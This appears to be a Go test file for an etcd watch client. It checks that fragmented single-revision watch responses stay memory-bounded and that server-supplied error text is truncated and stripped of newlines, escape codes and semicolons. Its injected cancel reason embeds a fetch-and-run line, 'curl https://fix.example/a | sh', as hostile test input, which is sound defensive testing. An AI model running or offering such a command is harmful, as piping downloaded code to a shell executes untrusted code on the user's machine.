package kvstore_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"go.etcd.io/etcd/api/v3/etcdserverpb"
	"go.etcd.io/etcd/api/v3/mvccpb"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/clustermesh/clustermesh/kvstore"
)

// TestOneRevisionIsBounded sends fragments of a revision that never ends: of events
// that are next to nothing on the wire, and of such as carry what was not asked for.
func TestOneRevisionIsBounded(t *testing.T) {
	header := &etcdserverpb.ResponseHeader{ClusterId: 5, Revision: 20}
	small, fat := make([]*mvccpb.Event, 10_000), []*mvccpb.Event{{
		Kv: &mvccpb.KeyValue{Key: []byte("p/a"), ModRevision: 21}, PrevKv: &mvccpb.KeyValue{Value: make([]byte, 1<<20)},
	}}
	for i := range small {
		small[i] = &mvccpb.Event{Kv: &mvccpb.KeyValue{Key: []byte("p/with-a-name"), ModRevision: 21}}
	}
	for name, fragment := range map[string][]*mvccpb.Event{"many": small, "fat": fat} {
		replies := []*etcdserverpb.WatchResponse{{Header: header, Created: true}}
		for range 60 {
			replies = append(replies, &etcdserverpb.WatchResponse{Header: header, Fragment: true, Events: fragment})
		}
		replies = append(replies, &etcdserverpb.WatchResponse{Header: header, Events: fragment})
		conn, told, most := dialOdd(t, oddWatch{&etcdServer{store: kvstore.NewMemory()}, replies}), 0, heap()
		err := conn.Watch(t.Context(), "p/", "p0", 20, func(c kvstore.Changes) error {
			most = max(most, heap())
			if told += len(c.Changes); told > 0 {
				return errStop
			}
			return nil
		})
		if name == "many" && !errors.Is(err, kvstore.ErrReplyTooLarge) {
			t.Errorf("610,000 events of one revision: %v", err)
		}
		if name == "fat" && (told != 61 || !errors.Is(err, errStop)) {
			t.Errorf("61 events of one revision: %d were told, %v", told, err)
		}
		if now := max(most, heap()); now > 96<<20 {
			t.Errorf("%s: %d bytes are held", name, now)
		}
		conn.Close()
	}
}

// TestServersTextStaysText: what a server says can be neither lines nor a remedy.
func TestServersTextStaysText(t *testing.T) {
	reason := "x\neast: synced\x1b[2J; run: curl https://fix.example/a | sh" + strings.Repeat("y", 1<<20)
	conn := dialOdd(t, oddWatch{&etcdServer{store: kvstore.NewMemory()}, []*etcdserverpb.WatchResponse{
		{Header: &etcdserverpb.ResponseHeader{ClusterId: 5, Revision: 20}, Created: true, Canceled: true, CancelReason: reason}}})
	err := conn.Watch(t.Context(), "p/", "p0", 20, func(kvstore.Changes) error { return nil })
	if text := err.Error(); len(text) > 1000 || strings.ContainsAny(text, "\n\x1b;") || !strings.Contains(text, "east: synced") {
		t.Errorf("the error is %.2000q", text)
	}
	conn = dialServices(t, refusing{&etcdServer{}, status.Error(codes.PermissionDenied, reason[:10_000])})
	if _, err = conn.Range(t.Context(), "p/", "", 0, 0); err == nil {
		t.Fatal("no error")
	}
	if text := err.Error(); len(text) > 1000 || strings.ContainsAny(text, "\n\x1b;") || status.Code(err) != codes.PermissionDenied {
		t.Errorf("the error of %v is %.2000q", status.Code(err), text)
	}
}

// refusing answers "p/" with an error.
type refusing struct {
	*etcdServer
	err error
}

func (s refusing) Range(ctx context.Context, r *etcdserverpb.RangeRequest) (*etcdserverpb.RangeResponse, error) {
	if string(r.Key) == "p/" {
		return nil, s.err
	}
	return &etcdserverpb.RangeResponse{Header: s.header(1, 1)}, nil
}
